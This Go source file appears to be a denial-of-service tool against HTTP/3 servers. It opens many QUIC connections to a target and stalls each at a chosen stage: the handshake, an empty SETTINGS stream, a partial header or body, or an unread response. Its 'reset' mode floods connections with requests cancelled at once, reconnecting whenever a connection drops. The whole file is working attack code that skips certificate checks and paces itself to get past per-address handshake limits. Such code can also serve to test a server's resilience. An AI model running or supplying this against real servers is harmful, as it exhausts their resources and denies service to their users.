package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"net/url"
	"os"
	"sync"
	"time"

	"github.com/quic-go/qpack"
	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"github.com/quic-go/quic-go/quicvarint"
)

// A socket that hears nothing: its handshakes stop behind the first packets.
type deaf struct{ *net.UDPConn }

func (d deaf) ReadFrom(to []byte) (int, net.Addr, error) {
	for {
		if _, _, err := d.UDPConn.ReadFrom(to); err != nil {
			return 0, nil, err
		}
	}
}

// Opens connections that stop somewhere, and holds them; or floods with resets.
func holdCrowd(count int, stop, target string) {
	to, err := url.Parse(target)
	if err != nil {
		panic(err)
	}
	address, err := net.ResolveUDPAddr("udp", to.Host)
	if err != nil {
		panic(err)
	}
	var all sync.WaitGroup
	// The server bounds the handshakes of an address.
	turns := make(chan struct{}, 32)
	for range count {
		all.Add(1)
		turns <- struct{}{}
		go func() {
			defer func() { <-turns; all.Done() }()
			if err := member(stop, to, address); err != nil {
				fmt.Fprintln(os.Stderr, err)
			}
		}()
	}
	all.Wait()
	wait()
}

// One connection.
func member(stop string, to *url.URL, address *net.UDPAddr) error {
	secrets := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{http3.NextProtoH3}, ServerName: to.Hostname()}
	settings := &quic.Config{HandshakeIdleTimeout: 30 * time.Second, MaxIdleTimeout: 60 * time.Second, InitialStreamReceiveWindow: 1024, MaxStreamReceiveWindow: 1024}
	socket, err := net.ListenUDP("udp", &net.UDPAddr{IP: address.IP})
	if err != nil {
		return err
	}
	if stop == "handshake" {
		go func() {
			_, _ = (&quic.Transport{Conn: deaf{socket}}).Dial(context.Background(), address, secrets, settings)
		}()
		time.Sleep(100 * time.Millisecond)
		return nil
	}
	connection, err := (&quic.Transport{Conn: socket}).Dial(context.Background(), address, secrets, settings)
	if err != nil {
		return err
	}
	// The control stream with empty SETTINGS.
	control, err := connection.OpenUniStream()
	if err != nil {
		return err
	}
	if _, err = control.Write([]byte{0, 4, 0}); err != nil || stop == "request" {
		return err
	}
	if stop == "reset" {
		go flood(connection, to, address)
		return nil
	}
	stream, err := connection.OpenStream()
	if err != nil {
		return err
	}
	var head []byte
	switch stop {
	case "head":
		head = []byte{1, 0x40, 100, 0, 0}
	case "body":
		head = append(headers(to, "POST", "100000"), 0, 0x44, 0)
		head = append(head, "half"...)
	case "response":
		head = headers(to, "GET", "")
	default:
		return fmt.Errorf("-stop %s: it is none of handshake, request, head, body, response, reset", stop)
	}
	if _, err = stream.Write(head); err == nil && stop == "response" {
		err = stream.Close()
	}
	return err
}

// Asks, and resets the request at once, as long as the connection lasts; then begins again on another one.
func flood(connection *quic.Conn, to *url.URL, address *net.UDPAddr) {
	head := headers(to, "GET", "")
	for {
		stream, err := connection.OpenStreamSync(connection.Context())
		if err != nil {
			break
		}
		if _, err = stream.Write(head); err != nil {
			break
		}
		stream.CancelWrite(0x10c)
		stream.CancelRead(0x10c)
	}
	for member("reset", to, address) != nil {
		time.Sleep(100 * time.Millisecond)
	}
}

// A HEADERS frame.
func headers(to *url.URL, method, length string) []byte {
	block := &block{}
	encoder := qpack.NewEncoder(block)
	fields := []qpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: to.Host}, {Name: ":path", Value: to.Path},
	}
	if length != "" {
		fields = append(fields, qpack.HeaderField{Name: "content-length", Value: length})
	}
	for _, field := range fields {
		_ = encoder.WriteField(field)
	}
	frame := quicvarint.Append([]byte{1}, uint64(len(*block)))
	return append(frame, *block...)
}

type block []byte

func (b *block) Write(part []byte) (int, error) {
	*b = append(*b, part...)
	return len(part), nil
}
